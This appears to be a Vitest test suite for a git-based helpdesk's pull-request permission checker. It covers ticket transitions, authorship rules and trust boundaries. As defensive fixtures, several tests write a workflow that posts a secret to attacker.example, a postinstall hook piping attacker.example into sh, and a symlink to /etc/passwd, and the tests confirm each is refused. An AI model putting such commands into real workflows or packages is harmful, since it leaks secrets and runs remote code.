import { mkdirSync, readdirSync, readFileSync, rmSync, symlinkSync, writeFileSync } from 'node:fs';
import path from 'node:path';
import { afterAll, beforeAll, beforeEach, describe, expect, it } from 'vitest';
import { parseTicket, serializeTicket } from '../lib/core/documents.ts';
import { messageFile } from '../lib/core/edit.ts';
import type { MessageInput } from '../lib/core/schema/message.ts';
import type { Ticket } from '../lib/core/schema/ticket.ts';
import { checkPullRequest } from '../lib/store/pull-request.ts';
import { assignTicket } from '../scripts/commands/assign.ts';
import { relateTickets } from '../scripts/commands/relate.ts';
import { changeStatus } from '../scripts/commands/status.ts';
import { cleanupTemps, git, makeSmallHelpdesk, runGitgus } from './helpers.ts';

afterAll(cleanupTemps);

let dir = '';

const indexPath = (number: number) => `tickets/${Math.floor(number / 1000)}/${number}/index.md`;

function readTicketFile(number: number): { ticket: Ticket; body: string } {
  return parseTicket(readFileSync(path.join(dir, indexPath(number)), 'utf8'), indexPath(number));
}

function editTicket(number: number, change: (ticket: Ticket) => Ticket, body?: (text: string) => string): void {
  const doc = readTicketFile(number);
  const next = { ticket: change(structuredClone(doc.ticket)), body: body ? body(doc.body) : doc.body };
  writeFileSync(path.join(dir, indexPath(number)), serializeTicket(next, indexPath(number)));
}

function addMessage(number: number, message: Partial<MessageInput> & Pick<MessageInput, 'author'>, body = 'We restarted the service; please try again.\n'): string {
  // Dated now: the check refuses a message dated before the base tip's commit or in the future.
  const file = messageFile(number, { message: { date: nowIso(), visibility: 'public', source: 'pull-request', ...message }, body });
  mkdirSync(path.dirname(path.join(dir, file.path)), { recursive: true });
  writeFileSync(path.join(dir, file.path), file.content);
  return file.path;
}

function nowIso(offsetMs = 0): string {
  return new Date(Date.now() + offsetMs).toISOString().replace(/\.\d{3}Z$/, 'Z');
}

function firstMessage(number: number): string {
  const folder = `tickets/${Math.floor(number / 1000)}/${number}/messages`;
  return `${folder}/${readdirSync(path.join(dir, folder)).sort()[0] ?? ''}`;
}

function commitAll(message = 'Change from a pull request'): void {
  git(dir, ['add', '-A']);
  git(dir, ['commit', '-q', '-m', message]);
}

async function check(author: string) {
  return checkPullRequest({ root: dir, base: 'main', head: 'HEAD', author });
}

async function codes(author: string): Promise<string[]> {
  return (await check(author)).problems.map((problem) => problem.code);
}

const JAN = { name: 'Jan Novák', email: 'jan.novak@cesnet.example' };
const supporterNote = (date: string, unit: string, extra: Partial<MessageInput> = {}) => ({
  date,
  author: { name: 'A Supporter', email: 'a.supporter@grid.example', role: 'supporter' as const, unit },
  source: 'cli' as const,
  text: 'We are looking into it.',
  ...extra,
});

beforeAll(() => {
  // One ticket per situation a pull request meets: each status that matters, units with different
  // supporters, a submitter known by a GitHub login (so they can act on their own ticket), attachments,
  // and a parent with its child.
  dir = makeSmallHelpdesk(
    [
      { status: 'new', unit: 'tpm' }, // 1001
      { status: 'assigned', unit: 'cms' }, // 1002
      { status: 'on hold', unit: 'ngi-uk', messages: [supporterNote('2026-11-03T10:00:00Z', 'ngi-uk', { attachments: [{ file: 'ce-log.txt', size: 14, type: 'text/plain' }] })] }, // 1003
      { status: 'assigned', unit: 'cic', messages: [supporterNote('2026-11-03T10:00:00Z', 'cic')] }, // 1004
      { status: 'solved', unit: 'atlas', submitter: { ...JAN, github: 'jan-novak' } }, // 1005
      { status: 'closed', unit: 'osg', submitter: JAN }, // 1006
      { status: 'in progress', unit: 'network' }, // 1007
      { status: 'in progress', unit: 'osg' }, // 1008
      { status: 'closed', unit: 'ngi-de' }, // 1009
      { status: 'in progress', unit: 'voms' }, // 1010
      { status: 'closed', unit: 'osg' }, // 1011
      { status: 'verified', unit: 'ggus' }, // 1012
      { status: 'in progress', unit: 'ngi-de', submitter: JAN, messages: [supporterNote('2026-11-03T10:00:00Z', 'ngi-de')] }, // 1013
      { status: 'assigned', unit: 'cic', relations: { parent: 1015 } }, // 1014
      { status: 'on hold', unit: 'arc', relations: { children: [1014] } }, // 1015
    ],
    { files: { 'tickets/1/1003/files/ce-log.txt': 'CE log lines\n\n' } },
  ).dir;
});

let branch = 0;
beforeEach(() => {
  branch += 1;
  git(dir, ['switch', '-q', '-f', '-C', `pr-${branch}`, 'main']);
  git(dir, ['clean', '-q', '-fd']);
});

describe('accepted pull requests', () => {
  it('a supporter of the unit sets in progress and adds a reply', async () => {
    editTicket(1004, (t) => ({ ...t, status: 'in progress' }));
    addMessage(1004, { author: { name: 'Claire Cic', github: 'claire-cic', role: 'supporter', unit: 'cic' }, attachments: [{ file: 'apel.log', size: 11, type: 'text/plain' }] });
    mkdirSync(path.join(dir, 'tickets/1/1004/files'), { recursive: true });
    writeFileSync(path.join(dir, 'tickets/1/1004/files/apel.log'), 'broker: ok\n');
    commitAll();
    const result = await check('claire-cic');
    expect(result.problems).toEqual([]);
    expect(result.files).toBe(3);
    expect(result.tickets).toEqual([1004]);
  });

  it('TPM reassigns a new ticket and an in-progress one', async () => {
    editTicket(1001, (t) => ({ ...t, unit: 'ngi-de', status: 'assigned' }));
    editTicket(1013, (t) => ({ ...t, unit: 'cms', status: 'assigned' }));
    commitAll();
    expect((await check('tpm-shifter')).problems).toEqual([]);
  });

  it('a submitter with a known GitHub login verifies their own ticket and thanks the supporters', async () => {
    editTicket(1005, (t) => ({ ...t, status: 'verified' }));
    addMessage(1005, { author: { name: 'Jan Novák', github: 'jan-novak', role: 'submitter' } }, 'Works now, thank you!\n');
    commitAll();
    expect((await check('jan-novak')).problems).toEqual([]);
  });

  it('an administrator changes the routing rules', async () => {
    const file = path.join(dir, 'units/routing.yml');
    writeFileSync(file, readFileSync(file, 'utf8').replace('keywords: [osg, "open science grid"]', 'keywords: [osg, "open science grid", oim]'));
    commitAll();
    expect((await check('tpm-shifter')).problems).toEqual([]);
  });

  it('accepts exactly what gitgus assign, status and relate commit', async () => {
    await assignTicket({ root: dir, number: 1001, unit: 'ngi-fr', actor: 'tpm-shifter' });
    await changeStatus({ root: dir, number: 1004, status: 'in progress', actor: 'claire-cic' });
    await relateTickets({ root: dir, number: 1013, kind: 'master', other: 1008, actor: 'dieter-de' });
    await relateTickets({ root: dir, number: 1007, kind: 'related', other: 1010, actor: 'nina-net' });
    expect(readTicketFile(1013).ticket).toMatchObject({ status: 'on hold', relations: { master: 1008 } });
    expect((await check('tpm-shifter')).problems).toEqual([]);
    expect(git(dir, ['status', '--porcelain'])).toBe('');
  });
});

describe('refusals, each with the fix', () => {
  it('schema errors, pointing at the line', async () => {
    const file = path.join(dir, indexPath(1013));
    writeFileSync(file, readFileSync(file, 'utf8').replace('status: in progress', 'status: done'));
    commitAll();
    const [problem] = (await check('dieter-de')).problems;
    expect(problem).toMatchObject({ code: 'E_SCHEMA', file: indexPath(1013), field: 'status', line: 4 });
    expect(problem?.message).toContain("expected one of 'new' | 'assigned'");
  });

  it('a new ticket number', async () => {
    const doc = readTicketFile(1013);
    const copy = { ticket: { ...doc.ticket, number: 1099 }, body: doc.body };
    mkdirSync(path.join(dir, 'tickets/1/1099'), { recursive: true });
    writeFileSync(path.join(dir, indexPath(1099)), serializeTicket(copy));
    commitAll();
    const [problem] = (await check('tpm-shifter')).problems;
    expect(problem).toMatchObject({ code: 'E_NEW_TICKET', file: indexPath(1099) });
    expect(problem?.hint).toContain('Open the ticket by mail or through the issue form');
  });

  it('a moved ticket and a renumbered ticket', async () => {
    git(dir, ['mv', 'tickets/1/1013', 'tickets/1/1098']);
    editTicket(1012, (t) => ({ ...t, number: 1097 }));
    commitAll();
    const problems = (await check('tpm-shifter')).problems;
    expect(problems.map((p) => `${p.code} ${p.file}`)).toEqual(['E_RENUMBERED tickets/1/1012/index.md', 'E_TICKET_MOVED tickets/1/1098/index.md']);
    expect(problems[1]?.message).toBe('moves ticket #1013 from tickets/1/1013/index.md: ticket folders never move');
  });

  it('a deleted ticket', async () => {
    rmSync(path.join(dir, 'tickets/1/1011'), { recursive: true });
    commitAll();
    expect(await codes('tpm-shifter')).toContain('E_TICKET_DELETED');
  });

  it('a forbidden transition, and a transition by someone not allowed to make it', async () => {
    editTicket(1001, (t) => ({ ...t, status: 'verified' }));
    editTicket(1004, (t) => ({ ...t, status: 'in progress' }));
    commitAll();
    const problems = (await check('arne-arc')).problems;
    expect(problems.map((p) => `${p.code} ${p.file}`)).toEqual(['E_TRANSITION tickets/1/1001/index.md', 'E_ACTOR tickets/1/1004/index.md']);
    expect(problems[0]?.message).toBe('new → verified is not an allowed transition');
    expect(problems[1]?.message).toContain('assigned → in progress may be made by a supporter of the responsible unit or TPM');
  });

  it('a closed ticket accepts no change', async () => {
    editTicket(1006, (t) => ({ ...t, status: 'reopened' }));
    addMessage(1009, { author: { name: 'Dieter Grid', github: 'dieter-de', role: 'supporter', unit: 'ngi-de' } });
    commitAll();
    expect(await codes('dieter-de')).toEqual(['E_FROZEN', 'E_FROZEN']);
  });

  it('a submitter changes more than they may on their own ticket; a stranger writes on one', async () => {
    editTicket(1005, (t) => ({ ...t, status: 'reopened', priority: 'top priority' }));
    addMessage(1005, { author: { name: 'Jan Novák', github: 'jan-novak', role: 'supporter' }, visibility: 'internal' });
    commitAll();
    const problems = (await check('jan-novak')).problems;
    expect(problems.map((p) => `${p.code} ${p.field ?? ''}`)).toEqual(['E_FIELD_ACTOR priority', 'E_MESSAGE_AUTHOR author.role', 'E_INTERNAL_NOTE visibility']);
    expect(problems[0]?.message).toBe('only supporters change this field; on your own ticket you may add a public message, verify or reopen');
    const stranger = await codes('mallory');
    expect(stranger).toContain('E_NOT_ALLOWED');
    expect(stranger).toContain('E_ACTOR');
  });

  it('edits and deletions of existing messages and attachments', async () => {
    const edited = firstMessage(1004);
    writeFileSync(path.join(dir, edited), `${readFileSync(path.join(dir, edited), 'utf8')}\nEdited later.\n`);
    rmSync(path.join(dir, firstMessage(1013)));
    rmSync(path.join(dir, 'tickets/1/1003/files/ce-log.txt'));
    commitAll();
    const problems = (await check('tpm-shifter')).problems;
    expect(problems.map((p) => p.code).sort()).toEqual(['E_ATTACHMENT_CHANGED', 'E_MESSAGE_CHANGED', 'E_MESSAGE_CHANGED']);
    expect(problems.find((p) => p.file === edited)?.message).toBe('edits an existing message: messages are append-only, so the conversation stays as everyone saw it');
  });

  it('the original request is kept as written; messages are signed by their writer', async () => {
    editTicket(
      1013,
      (t) => t,
      (body) => `${body}Added later by someone else.\n`,
    );
    addMessage(1013, { author: { name: 'Anna Kit', github: 'anna-kit', role: 'supporter', unit: 'ngi-de' } });
    commitAll();
    expect(await codes('dieter-de')).toEqual(['E_REQUEST_EDITED', 'E_MESSAGE_AUTHOR']);
  });

  it('units, routing rules and settings by someone who is not an administrator', async () => {
    const unit = path.join(dir, 'units/cic.md');
    writeFileSync(unit, readFileSync(unit, 'utf8').replace('qos: medium', 'qos: advanced'));
    const rules = path.join(dir, 'units/routing.yml');
    writeFileSync(rules, readFileSync(rules, 'utf8').replace('unit: cic', 'unit: nowhere'));
    const settings = path.join(dir, 'helpdesk.yml');
    writeFileSync(settings, readFileSync(settings, 'utf8').replace('  - tpm-shifter', '  - tpm-shifter\n  - claire-cic'));
    commitAll();
    const problems = (await check('claire-cic')).problems;
    expect(problems.map((p) => `${p.code} ${p.file}`)).toEqual(['E_ADMIN_ONLY helpdesk.yml', 'E_ADMIN_ONLY units/cic.md', 'E_ADMIN_ONLY units/routing.yml', 'E_REFERENCE units/routing.yml']);
    expect(problems[0]?.hint).toBe('Ask an administrator (@tpm-shifter) to make this change, or take helpdesk.yml out of the pull request.');
  });

  it('relation edits that leave the other side inconsistent', async () => {
    editTicket(1001, (t) => ({ ...t, relations: { related: [1002] } }));
    editTicket(1014, (t) => ({ ...t, relations: {} }));
    commitAll();
    const problems = (await check('tpm-shifter')).problems;
    expect(problems.map((p) => `${p.code} ${p.file} ${p.field ?? ''}`)).toEqual(['E_RELATION tickets/1/1001/index.md relations.related', 'E_RELATION tickets/1/1015/index.md relations.children']);
    expect(problems[0]?.hint).toBe('Add 1001 to relations.related of #1002 in the same change, or use: gitgus relate 1001 --related 1002');
  });
});

describe('gitgus check --base on the command line', () => {
  it('prints GitHub annotations in Actions, plain text elsewhere, JSON with --json, and takes the author from GITHUB_ACTOR', () => {
    editTicket(1001, (t) => ({ ...t, status: 'verified' }));
    commitAll();
    const env = { GITHUB_ACTOR: 'tpm-shifter', GITHUB_ACTIONS: 'true' };
    const actions = runGitgus(['check', '--base', 'main', '--root', dir], { env });
    expect(actions.status).toBe(1);
    expect(actions.stdout).toBe(
      '::error file=tickets/1/1001/index.md,line=4,title=gitgus check%3A status::new → verified is not an allowed transition%0AFix: From new a ticket may go to: assigned, in progress, waiting for reply, on hold, solved, unsolved.\n',
    );
    const plain = runGitgus(['check', '--base', 'main', '--author', 'tpm-shifter', '--root', dir], { env: { GITHUB_ACTIONS: '' } });
    expect(plain.stdout).toBe('');
    expect(plain.stderr).toContain('tickets/1/1001/index.md:4 (status): new → verified is not an allowed transition\n    fix: From new a ticket may go to');
    const json = runGitgus(['check', '--base', 'main', '--author', 'tpm-shifter', '--json', '--root', dir], { env: { GITHUB_ACTIONS: '' } });
    expect(JSON.parse(json.stdout)).toMatchObject({ ok: false, author: 'tpm-shifter', tickets: [1001], problems: [{ code: 'E_TRANSITION', line: 4 }] });
    const noAuthor = runGitgus(['check', '--base', 'main', '--root', dir], { env: { GITHUB_ACTOR: '', GITHUB_ACTIONS: '' } });
    expect(noAuthor.status).toBe(1);
    expect(noAuthor.stderr).toContain('Pass --author <GitHub login>');
  });

  it('judges committed objects only, never the working tree', () => {
    editTicket(1004, (t) => ({ ...t, status: 'in progress' }));
    addMessage(1004, { author: { name: 'Claire Cic', github: 'claire-cic', role: 'supporter', unit: 'cic' } });
    const uncommitted = runGitgus(['check', '--base', 'main', '--author', 'mallory', '--root', dir], { env: { GITHUB_ACTIONS: '' } });
    expect(uncommitted.stderr).toBe('ok: @mallory may make these changes (0 helpdesk file(s), 0 ticket(s)).\n');
    commitAll();
    const ok = runGitgus(['check', '--base', 'main', '--head', 'HEAD', '--author', 'claire-cic', '--root', dir], { env: { GITHUB_ACTIONS: '' } });
    expect(ok.stderr).toBe('ok: @claire-cic may make these changes (2 helpdesk file(s), 1 ticket(s)).\n');
    expect(ok.status).toBe(0);
    const refused = runGitgus(['check', '--base', 'main', '--author', 'mallory', '--root', dir], { env: { GITHUB_ACTIONS: '' } });
    expect(refused.status).toBe(1);
    expect(refused.stderr).toContain('only the submitter of #1004 and supporters write on a ticket, and @mallory is neither');
  });

  it('refuses an unknown base with a hint', () => {
    const result = runGitgus(['check', '--base', 'no-such-branch', '--author', 'tpm-shifter', '--root', dir]);
    expect(result.status).toBe(1);
    expect(result.stderr).toContain("base 'no-such-branch' is not a commit");
    expect(result.stderr).toContain('fetch-depth: 0');
  });
});

// Issue 15: each test plays an attack a pull request could make and asserts the refusal, with its code and
// a message that names the rule. The base branch's gitgus judges (here: this checkout's code) and reads
// only the pull request's committed objects.
describe('trust boundaries: a pull request cannot pass its own check', () => {
  const reply = () => addMessage(1004, { author: { name: 'Claire Cic', github: 'claire-cic', role: 'supporter', unit: 'cic' } });

  it('a "reply" that also changes a workflow, package.json and the check itself is refused for a supporter', async () => {
    reply();
    mkdirSync(path.join(dir, '.github/workflows'), { recursive: true });
    writeFileSync(path.join(dir, '.github/workflows/mail-intake.yml'), 'on: push\njobs:\n  leak:\n    runs-on: ubuntu-latest\n    steps:\n      - run: curl -d "$SECRET" https://attacker.example\n');
    writeFileSync(path.join(dir, 'package.json'), '{"scripts":{"postinstall":"curl https://attacker.example | sh"}}\n');
    mkdirSync(path.join(dir, 'lib/core'), { recursive: true });
    writeFileSync(path.join(dir, 'lib/core/review.ts'), 'export const administrator = true;\n');
    writeFileSync(path.join(dir, '.gitattributes'), '* filter=evil\n');
    commitAll();
    const problems = (await check('claire-cic')).problems;
    expect(problems.map((p) => `${p.code} ${p.file}`)).toEqual(['E_ADMIN_ONLY .gitattributes', 'E_ADMIN_ONLY .github/workflows/mail-intake.yml', 'E_ADMIN_ONLY lib/core/review.ts', 'E_ADMIN_ONLY package.json']);
    expect(problems[1]?.message).toBe('is not helpdesk data (tickets/, units/, helpdesk.yml): only helpdesk administrators change code, workflows, package files and anything else, and @claire-cic is not one');
    // An administrator may change code (code-owner review on GitHub guards it: CODEOWNERS); only Claire's signature is not theirs.
    expect(await codes('tpm-shifter')).toEqual(['E_MESSAGE_AUTHOR']);
  });

  it('intake/ is written by intake only: refused for everyone, administrators included', async () => {
    mkdirSync(path.join(dir, 'intake/message-ids/ab'), { recursive: true });
    writeFileSync(path.join(dir, 'intake/state.yml'), 'lastNumber: 999999\nindex: 1\n');
    writeFileSync(path.join(dir, 'intake/message-ids/ab/c.tsv'), 'x\ty\t1004\n');
    commitAll();
    for (const author of ['claire-cic', 'tpm-shifter']) {
      const problems = (await check(author)).problems;
      expect(problems.map((p) => `${p.code} ${p.file}`)).toEqual(['E_INTAKE_FILE intake/message-ids/ab/c.tsv', 'E_INTAKE_FILE intake/state.yml']);
      expect(problems[0]?.message).toContain('changes intake/, which only intake writes');
    }
  });

  it('a symbolic link or a submodule under tickets/ is refused, for administrators too', async () => {
    const files = path.join(dir, 'tickets/1/1004/files');
    mkdirSync(files, { recursive: true });
    symlinkSync('/etc/passwd', path.join(files, 'passwd.txt'));
    symlinkSync(`../../1013/${path.basename(firstMessage(1013))}`, path.join(files, 'note.md'));
    addMessage(1004, { author: { name: 'Claire Cic', github: 'claire-cic', role: 'supporter', unit: 'cic' }, attachments: [{ file: 'passwd.txt', size: 1, type: 'text/plain' }] });
    git(dir, ['add', '-A']);
    git(dir, ['update-index', '--add', '--cacheinfo', `160000,${git(dir, ['rev-parse', 'HEAD']).trim()},tickets/1/1004/files/module`]);
    git(dir, ['commit', '-q', '-m', 'attachments']);
    expect(
      git(dir, ['ls-tree', 'HEAD', 'tickets/1/1004/files/'])
        .split('\n')
        .filter(Boolean)
        .map((line) => line.split(' ')[0])
        .sort(),
    ).toEqual(['120000', '120000', '160000']);
    for (const author of ['claire-cic', 'tpm-shifter']) {
      const problems = (await check(author)).problems.filter((p) => p.code === 'E_NOT_REGULAR_FILE');
      expect(problems.map((p) => p.file)).toEqual(['tickets/1/1004/files/module', 'tickets/1/1004/files/note.md', 'tickets/1/1004/files/passwd.txt']);
      expect(problems.map((p) => p.message)).toEqual([
        'is a submodule: helpdesk data holds regular files only, so nothing can point outside its ticket folder',
        'is a symbolic link: helpdesk data holds regular files only, so nothing can point outside its ticket folder',
        'is a symbolic link: helpdesk data holds regular files only, so nothing can point outside its ticket folder',
      ]);
    }
  });

  it('a ticket folder that is not canonical (wrong shard, leading zeros) is refused', async () => {
    const message = messageFile(1004, { message: { date: nowIso(), author: { name: 'Claire Cic', github: 'claire-cic', role: 'supporter', unit: 'cic' }, visibility: 'public', source: 'pull-request' }, body: 'Hello\n' });
    const name = path.basename(message.path);
    for (const folder of ['tickets/1/01004/messages', 'tickets/2/1004/messages', 'tickets/01/1004/messages']) {
      mkdirSync(path.join(dir, folder), { recursive: true });
      writeFileSync(path.join(dir, folder, name), message.content);
    }
    commitAll();
    const problems = (await check('claire-cic')).problems;
    expect(problems.map((p) => p.code)).toEqual(['E_TICKET_PATH', 'E_TICKET_PATH', 'E_TICKET_PATH']);
    expect(problems[0]?.message).toBe('is not in a canonical ticket folder: ticket #1004 lives in tickets/1/1004 (shard = number div 1000, the number without leading zeros)');
  });

  it("a message's author is the pull request's author: login, name, address, unit, source and date", async () => {
    const claire = { name: 'Claire Cic', github: 'claire-cic', role: 'supporter' as const, unit: 'cic' };
    const cases: [Partial<MessageInput>, string, string][] = [
      [{ author: { ...claire, github: undefined } }, 'author.github', 'names no GitHub login, but a message in a pull request is signed by its author, @claire-cic'],
      [{ author: { ...claire, name: 'TPM Shifter' } }, 'author.name', 'signs as TPM Shifter, cic, which is not an entry of @claire-cic'],
      [{ author: { ...claire, email: 'tpm@grid.example' } }, 'author.email', ''],
      [{ author: { ...claire, unit: 'tpm' } }, 'author.unit', ''],
      [{ source: 'mail' }, 'source', 'says it came by mail, but it comes in a pull request'],
      [{ date: '2026-01-01T00:00:00Z' }, 'date', 'is dated 2026-01-01T00:00:00Z, before the base commit the pull request starts from'],
      [{ date: nowIso(3 * 3600_000) }, 'date', 'in the future'],
    ];
    for (const [index, [change, field, message]] of cases.entries()) {
      git(dir, ['switch', '-q', '-f', '-C', `pr-author-${index}`, 'main']);
      git(dir, ['clean', '-q', '-fd']);
      addMessage(1004, { author: claire, ...change });
      commitAll();
      const problems = (await check('claire-cic')).problems;
      expect(
        problems.map((p) => `${p.code} ${p.field ?? ''}`),
        field,
      ).toEqual([`E_MESSAGE_AUTHOR ${field}`]);
      expect(problems[0]?.message).toContain(message);
    }
    const [named] = await (async () => {
      git(dir, ['switch', '-q', '-f', '-C', 'pr-author-name', 'main']);
      addMessage(1004, { author: { ...claire, name: 'TPM Shifter' } });
      commitAll();
      return (await check('claire-cic')).problems;
    })();
    expect(named?.message).toBe("signs as TPM Shifter, cic, which is not an entry of @claire-cic in units/ or the ticket's submitter");
    expect(named?.hint).toBe('Use your own entry: Claire Cic, claire-cic@grid.example, unit cic.');
  });

  it('a member or administrator given by GitHub id keeps the rights when someone else takes the login', async () => {
    const unit = path.join(dir, 'units/cic.md');
    writeFileSync(unit, readFileSync(unit, 'utf8').replace('    github: claire-cic', '    github: claire-cic\n    githubId: 1001'));
    const settings = path.join(dir, 'helpdesk.yml');
    writeFileSync(settings, readFileSync(settings, 'utf8').replace('  - tpm-shifter', '  - { github: tpm-shifter, id: 2002 }'));
    commitAll('Members and administrators by GitHub id');
    git(dir, ['branch', '-f', 'main-by-id']);
    git(dir, ['switch', '-q', '-c', 'pr-by-id']);
    reply();
    writeFileSync(path.join(dir, 'units/cic.md'), `${readFileSync(unit, 'utf8')}\nNew FAQ line.\n`);
    commitAll();
    const judge = (author: string, authorId: number) => checkPullRequest({ root: dir, base: 'main-by-id', head: 'HEAD', author, authorId });
    // The real accounts: Claire (1001) may reply but not change the unit; the administrator (2002) may do both.
    expect((await judge('claire-cic', 1001)).problems.map((p) => p.code)).toEqual(['E_ADMIN_ONLY']);
    // Someone who took over the login `claire-cic` (another id) is no supporter; the login `tpm-shifter` alone is no administrator.
    const impostor = (await judge('claire-cic', 3003)).problems.map((p) => p.code);
    expect(impostor).toContain('E_NOT_ALLOWED');
    expect(impostor).toContain('E_ADMIN_ONLY');
    const fakeAdmin = await judge('tpm-shifter', 4004);
    expect(fakeAdmin.administrator).toBe(false);
    expect((await judge('tpm-shifter', 2002)).administrator).toBe(true);
  });
});
